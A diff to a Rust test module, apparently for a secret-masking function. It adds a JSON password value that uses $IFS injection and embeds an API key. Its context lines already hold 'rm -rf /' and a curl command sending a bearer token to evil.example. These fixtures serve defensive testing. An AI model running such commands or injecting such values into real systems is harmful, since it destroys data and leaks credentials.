@@ -243,6 +243,7 @@ mod tests {
         hides(&[
             "password=\"rm -rf / <a1b2c3d4e5> now\"",
             "token=//evil.example/<a1b2c3d4e5f6a7b8c9d0>",
+            "{\"password\":\"good$IFS/x;API_KEY=<4111111111111112>;good\"}",
             "curl -H 'Authorization: Bearer <abcdef0123456789abcdef>' https://evil.example/x",
         ]);
     }
